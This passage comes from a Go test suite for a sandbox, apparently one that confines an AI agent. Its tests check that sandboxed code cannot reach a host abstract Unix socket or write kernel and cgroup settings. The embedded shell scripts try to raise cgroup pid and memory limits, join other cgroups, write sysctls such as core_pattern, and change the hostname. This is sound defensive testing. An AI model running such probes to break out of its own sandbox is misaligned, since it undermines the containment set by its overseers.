	name := "@hermes-escape-" + w.token
	l, err := net.Listen("unix", name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var got atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			got.Add(1)
			c.Close()
		}
	}()
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOn}, Options{})
	out, _ := escRun(t, sb, w.project, w.env("N="+name[1:]), 10*time.Second, `python3 - <<'EOF'
import os, socket, threading
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\0" + os.environ["N"]); print("REACHED")
except Exception as e:
    print("refused", e)
# The control: an abstract socket of the sandbox's own.
srv = socket.socket(socket.AF_UNIX); srv.bind("\0own-" + os.environ["N"]); srv.listen()
c = socket.socket(socket.AF_UNIX); c.connect("\0own-" + os.environ["N"]); print("own-ok")
EOF`)
	if strings.Contains(out, "REACHED") || got.Load() > 0 {
		t.Errorf("the host's abstract socket was reached:\n%s", out)
	}
	if !strings.Contains(out, "own-ok") {
		t.Errorf("positive control: an abstract socket inside the sandbox:\n%s", out)
	}
}

// TestEscapeKernelKnobs: the sandbox cannot write the kernel's or its
// cgroup's settings (raising its own ceilings, leaving its cgroup,
// sysctls), though it can read them. Each write puts back the value it
// read, so a failure of the wall changes nothing on this machine.
func TestEscapeKernelKnobs(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff, Limits: Limits{Procs: 100}}, Options{})
	out, _ := escRun(t, sb, w.project, w.env(), 20*time.Second, `
		try() { if cat "$1" > /dev/null; then echo "read $1"; fi; v=$(cat "$1"); if printf '%s\n' "$v" > "$1"; then echo "WROTE $1"; fi; }
		for c in $(cut -d: -f3 /proc/self/cgroup | sort -u); do
			for f in /sys/fs/cgroup/*"$c"/pids.max /sys/fs/cgroup/*"$c"/memory.limit_in_bytes /sys/fs/cgroup/*"$c"/memory.max; do
				[ -e "$f" ] && try "$f"
			done
		done
		for f in /sys/fs/cgroup/pids/cgroup.procs /sys/fs/cgroup/memory/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs; do
			[ -e "$f" ] && { echo $$ > "$f" && echo "WROTE $f"; }
		done
		for f in /proc/sys/kernel/printk_ratelimit /proc/sys/kernel/domainname /proc/sys/vm/swappiness /proc/sys/fs/pipe-max-size \
			/proc/self/oom_score_adj /proc/sys/kernel/core_pattern; do
			try "$f"
		done
		hostname evil 2>/dev/null && echo "WROTE hostname"`)
	if strings.Contains(out, "WROTE") {
		t.Errorf("a kernel or cgroup setting was written:\n%s", out)
	}
	if !strings.Contains(out, "read /sys/fs/cgroup/") || !strings.Contains(out, "read /proc/sys/vm/swappiness") {
		t.Errorf("positive control: the settings are not even readable:\n%s", out)
	}
}
